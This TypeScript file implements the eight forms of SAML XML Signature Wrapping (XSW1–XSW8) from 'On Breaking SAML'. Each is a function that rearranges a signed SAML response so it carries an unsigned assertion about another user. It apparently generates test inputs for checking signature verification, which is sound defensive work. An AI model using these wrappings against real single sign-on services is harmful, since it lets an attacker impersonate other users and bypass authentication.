/** The parts of an answer that signature wrapping rearranges. */
export interface Wrapped {
  /** A whole response with a signed assertion. */
  readonly withSignedAssertion: string
  /** A whole response with a signature over all of it. */
  readonly withSignedResponse: string
  /** An assertion about another user, without a signature. */
  readonly evil: string
}

const assertion = /<saml:Assertion.*<\/saml:Assertion>/s
const signaturePattern = /<ds:Signature.*<\/ds:Signature>/s

function partOf(xml: string, pattern: RegExp): string {
  const [part] = pattern.exec(xml) ?? []
  if (part === undefined) throw new Error('The answer lacks a part that the attack rearranges.')
  return part
}

/** Returns the evil assertion with the signature of another assertion in it. */
function evilSignedBy(evil: string, signature: string): string {
  return evil.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
}

function within(signature: string, content: string): string {
  return signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`)
}

/**
 * Returns a response about another user, with another id, a signature and the content that was
 * signed.
 */
function evilResponse(xml: string, evil: string, rest: string): string {
  const signature = partOf(xml, signaturePattern)
  return xml
    .replace(signature, rest)
    .replace('ID="_answer"', 'ID="_evil"')
    .replace(partOf(xml, assertion), evil)
}

/**
 * The eight forms of signature wrapping (Somorovsky et al., "On Breaking SAML", 2012), with the
 * names that testing tools use. Each keeps the signed content unchanged somewhere in the document,
 * and puts an assertion about another user where a reader may find it.
 */
export const signatureWrappings: Readonly<Record<string, (wrapped: Wrapped) => string>> = {
  'XSW1: the signed response inside the signature of another': ({ withSignedResponse, evil }) => {
    const signature = partOf(withSignedResponse, signaturePattern)
    const signed = withSignedResponse.replace(signature, '')
    return evilResponse(withSignedResponse, evil, within(signature, signed))
  },
  'XSW2: the signed response beside its signature in another': ({ withSignedResponse, evil }) => {
    const signature = partOf(withSignedResponse, signaturePattern)
    const signed = withSignedResponse.replace(signature, '')
    return evilResponse(withSignedResponse, evil, `${signed}${signature}`)
  },
  'XSW3: another assertion before the signed one': ({ withSignedAssertion, evil }) =>
    withSignedAssertion.replace('<saml:Assertion', `${evil}<saml:Assertion`),
  'XSW4: the signed assertion inside another': ({ withSignedAssertion, evil }) => {
    const signed = partOf(withSignedAssertion, assertion)
    return withSignedAssertion.replace(
      signed,
      evil.replace('</saml:Assertion>', `${signed}</saml:Assertion>`),
    )
  },
  'XSW5: the signature in another assertion, the signed one behind it': ({
    withSignedAssertion,
    evil,
  }) => {
    const signed = partOf(withSignedAssertion, assertion)
    const signature = partOf(signed, signaturePattern)
    return withSignedAssertion.replace(
      signed,
      `${evilSignedBy(evil, signature)}${signed.replace(signature, '')}`,
    )
  },
  'XSW6: the signed assertion inside the signature of another': ({ withSignedAssertion, evil }) => {
    const signed = partOf(withSignedAssertion, assertion)
    const signature = partOf(signed, signaturePattern)
    return withSignedAssertion.replace(
      signed,
      evilSignedBy(
        evil,
        signature.replace('</ds:Signature>', `${signed.replace(signature, '')}</ds:Signature>`),
      ),
    )
  },
  'XSW7: another assertion of the same name in extensions': ({ withSignedAssertion, evil }) => {
    const signed = partOf(withSignedAssertion, assertion)
    const [, id = ''] = / ID="([^"]*)"/.exec(signed) ?? []
    const twin = evil.replace(/ ID="[^"]*"/, ` ID="${id}"`)
    return withSignedAssertion.replace(
      signed,
      `<samlp:Extensions>${twin}</samlp:Extensions>${signed}`,
    )
  },
  'XSW8: the signed assertion as an object of the signature of its twin': ({
    withSignedAssertion,
    evil,
  }) => {
    const signed = partOf(withSignedAssertion, assertion)
    const signature = partOf(signed, signaturePattern)
    const [, id = ''] = / ID="([^"]*)"/.exec(signed) ?? []
    const twin = evil.replace(/ ID="[^"]*"/, ` ID="${id}"`)
    return withSignedAssertion.replace(
      signed,
      evilSignedBy(twin, within(signature, signed.replace(signature, ''))),
    )
  },
}
